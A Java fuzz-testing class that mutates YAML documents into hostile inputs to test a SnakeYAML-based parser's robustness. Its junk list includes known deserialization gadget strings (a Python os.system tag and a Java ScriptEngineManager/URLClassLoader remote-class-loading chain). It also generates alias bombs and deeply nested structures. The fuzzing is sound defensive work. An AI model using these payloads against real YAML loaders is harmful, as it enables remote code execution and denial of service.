package dev.palisade.engine.fuzz;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.yaml.snakeyaml.DumperOptions;
import org.yaml.snakeyaml.Yaml;

/**
 * Turns a valid YAML document (a tree of maps, lists and scalars) into hostile variants: first
 * on the tree (wrong types, missing and misspelt fields, values nested deep), then on the text
 * (anchors and aliases, alias bombs of nested lists, invalid UTF-8, control characters, YAML
 * syntax characters, truncation, lines moved). Driven by one {@link Random}, so a jqwik seed
 * reproduces an input exactly.
 */
final class YamlMutator {
    private static final byte[][] JUNK = {
        {(byte) 0xFF}, {(byte) 0xC3}, {(byte) 0x80}, {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, {0}, {7}, {0x1B}, {'\t'},
        {'{'}, {'['}, {']'}, {'}'}, {':'}, {'&'}, {'*'}, {'!'}, {'%'}, {'|'}, {'>'}, {'"'}, {'\''}, {'#'}, {'-'}, {'\n'},
        {(byte) 0xE2, (byte) 0x80, (byte) 0xA8}, {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, " ? ".getBytes(StandardCharsets.UTF_8),
        "!!python/object/apply:os.system [ls]".getBytes(StandardCharsets.UTF_8),
        "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]".getBytes(StandardCharsets.UTF_8),
        "<<: *nope".getBytes(StandardCharsets.UTF_8), "&c {kind: List, items: [*c]}\n---\n".getBytes(StandardCharsets.UTF_8),
        "x: &m {a: *m}\n".getBytes(StandardCharsets.UTF_8), "? &k [*k]\n: v\n".getBytes(StandardCharsets.UTF_8), "---\n".getBytes(StandardCharsets.UTF_8), "...\n".getBytes(StandardCharsets.UTF_8),
    };

    private final Random random;

    YamlMutator(Random random) {
        this.random = random;
    }

    /** The document, mutated on the tree and the text: 0 to 3 of each. */
    byte[] mutate(Object document) {
        Object tree = copy(document);
        int treeMutations = random.nextInt(4);
        for (int i = 0; i < treeMutations; i++) {
            tree = mutateTree(tree);
        }
        byte[] text = dump(tree).getBytes(StandardCharsets.UTF_8);
        int textMutations = random.nextInt(4);
        for (int i = 0; i < textMutations; i++) {
            text = mutateText(text);
        }
        return text;
    }

    String dump(Object tree) {
        DumperOptions options = new DumperOptions();
        options.setDefaultFlowStyle(switch (random.nextInt(3)) {
            case 0 -> DumperOptions.FlowStyle.FLOW;
            case 1 -> DumperOptions.FlowStyle.BLOCK;
            default -> DumperOptions.FlowStyle.AUTO;
        });
        return new Yaml(options).dump(tree);
    }

    // ---- tree mutations

    private Object mutateTree(Object root) {
        List<Slot> slots = new ArrayList<>();
        collect(root, slots);
        if (slots.isEmpty()) {
            return copy(badValue());
        }
        Slot s = slots.get(random.nextInt(slots.size()));
        switch (random.nextInt(6)) {
            case 0 -> s.set(copy(badValue()));
            case 1 -> s.remove();
            case 2 -> s.rename(s.key() + (char) ('a' + random.nextInt(26)));
            case 3 -> s.set(new ArrayList<>(java.util.Collections.singletonList(s.get() == null ? "x" : s.get())));
            case 4 -> s.set(deep(1 + random.nextInt(random.nextBoolean() ? 10 : 80)));
            default -> s.addSibling("unknown" + random.nextInt(100), copy(badValue()));
        }
        return root;
    }

    private Object badValue() {
        return switch (random.nextInt(12)) {
            case 0 -> "text";
            case 1 -> random.nextInt();
            case 2 -> random.nextBoolean();
            case 3 -> null;
            case 4 -> new ArrayList<>();
            case 5 -> new LinkedHashMap<>();
            case 6 -> 1.5e300;
            case 7 -> "line\nbreak: \"quoted\" #not a comment";
            case 8 -> "\u2028\u00e9\ud83d\ude00";
            case 9 -> new ArrayList<>(List.of("a", 1, List.of()));
            case 10 -> new LinkedHashMap<>(Map.of("kind", "List", "items", new ArrayList<>(List.of(Map.of("kind", "Role"))))); 
            default -> String.join("", Collections.nCopies(random.nextInt(200), "*"));
        };
    }

    private static Object deep(int depth) {
        Object v = "bottom";
        for (int i = 0; i < depth; i++) {
            v = i % 2 == 0 ? new ArrayList<>(List.of(v)) : new LinkedHashMap<>(Map.of("k", v));
        }
        return v;
    }

    /** A place in the tree: a map entry or a list element. */
    private record Slot(Object container, Object keyOrIndex) {
        String key() {
            return String.valueOf(keyOrIndex);
        }

        @SuppressWarnings("unchecked")
        Object get() {
            return container instanceof Map<?, ?> m ? m.get(keyOrIndex) : ((List<Object>) container).get((Integer) keyOrIndex);
        }

        @SuppressWarnings("unchecked")
        void set(Object v) {
            if (container instanceof Map<?, ?> m) {
                ((Map<Object, Object>) m).put(keyOrIndex, v);
            } else {
                ((List<Object>) container).set((Integer) keyOrIndex, v);
            }
        }

        @SuppressWarnings("unchecked")
        void remove() {
            if (container instanceof Map<?, ?> m) {
                m.remove(keyOrIndex);
            } else {
                ((List<Object>) container).set((Integer) keyOrIndex, null);
            }
        }

        @SuppressWarnings("unchecked")
        void rename(String to) {
            if (container instanceof Map<?, ?> m) {
                Object v = m.remove(keyOrIndex);
                ((Map<Object, Object>) m).put(to, v);
            }
        }

        @SuppressWarnings("unchecked")
        void addSibling(String key, Object v) {
            if (container instanceof Map<?, ?> m) {
                ((Map<Object, Object>) m).put(key, v);
            } else {
                ((List<Object>) container).add(v);
            }
        }
    }

    private static void collect(Object node, List<Slot> out) {
        if (node instanceof Map<?, ?> m) {
            for (Object k : new ArrayList<>(m.keySet())) {
                out.add(new Slot(m, k));
                collect(m.get(k), out);
            }
        } else if (node instanceof List<?> l) {
            for (int i = 0; i < l.size(); i++) {
                out.add(new Slot(l, i));
                collect(l.get(i), out);
            }
        }
    }

    @SuppressWarnings("unchecked")
    private static Object copy(Object node) {
        if (node instanceof Map<?, ?> m) {
            Map<Object, Object> out = new LinkedHashMap<>();
            m.forEach((k, v) -> out.put(k, copy(v)));
            return out;
        }
        if (node instanceof List<?> l) {
            List<Object> out = new ArrayList<>();
            l.forEach(v -> out.add(copy(v)));
            return out;
        }
        return node;
    }

    // ---- text mutations

    private byte[] mutateText(byte[] text) {
        int at = text.length == 0 ? 0 : random.nextInt(text.length + 1);
        return switch (random.nextInt(8)) {
            case 0 -> java.util.Arrays.copyOf(text, at); // truncated
            case 1, 2 -> insert(text, at, JUNK[random.nextInt(JUNK.length)]);
            case 3 -> insert(text, 0, anchorsAndAliases());
            case 4 -> concat(aliasBomb(), text);
            case 5 -> insert(text, at, ("[".repeat(random.nextInt(120)) + "]".repeat(random.nextInt(120))).getBytes(StandardCharsets.UTF_8));
            case 6 -> moveLine(text);
            default -> concat(text, ("\n---\n").getBytes(StandardCharsets.UTF_8));
        };
    }

    /** An anchored list aliased a few or too many times, as a field that may or may not be known. */
    private byte[] anchorsAndAliases() {
        int aliases = random.nextInt(random.nextBoolean() ? 10 : 70);
        StringBuilder y = new StringBuilder("anchored: &a [x, {k: v}]\nrepeats: [");
        for (int i = 0; i < aliases; i++) {
            y.append(i == 0 ? "" : ", ").append("*a");
        }
        return y.append("]\n").toString().getBytes(StandardCharsets.UTF_8);
    }

    /** Lists nested through aliases (D15): levels × fan-out stays near SnakeYAML's alias limit. */
    private byte[] aliasBomb() {
        int levels = 2 + random.nextInt(6);
        int fan = 2 + random.nextInt(11);
        StringBuilder y = new StringBuilder("kind: List\nitems:\n- &l1 {kind: List, items: [");
        for (int i = 0; i < fan; i++) {
            y.append(i == 0 ? "" : ", ").append(random.nextBoolean() ? "{kind: Role}" : "{}");
        }
        y.append("]}\n");
        for (int level = 2; level <= levels; level++) {
            y.append("- &l").append(level).append(" {kind: List, items: [");
            for (int i = 0; i < fan; i++) {
                y.append(i == 0 ? "" : ", ").append("*l").append(level - 1);
            }
            y.append("]}\n");
        }
        return y.append("---\n").toString().getBytes(StandardCharsets.UTF_8);
    }

    private byte[] moveLine(byte[] text) {
        List<String> lines = new ArrayList<>(List.of(new String(text, StandardCharsets.ISO_8859_1).split("\n", -1)));
        if (lines.size() < 2) {
            return text;
        }
        String line = lines.remove(random.nextInt(lines.size()));
        if (random.nextBoolean()) {
            lines.add(random.nextInt(lines.size() + 1), line); // moved (or, below, dropped)
        }
        return String.join("\n", lines).getBytes(StandardCharsets.ISO_8859_1);
    }

    private static byte[] insert(byte[] text, int at, byte[] piece) {
        ByteArrayOutputStream out = new ByteArrayOutputStream(text.length + piece.length);
        out.write(text, 0, at);
        out.writeBytes(piece);
        out.write(text, at, text.length - at);
        return out.toByteArray();
    }

    private static byte[] concat(byte[] a, byte[] b) {
        return insert(b, 0, a);
    }
}
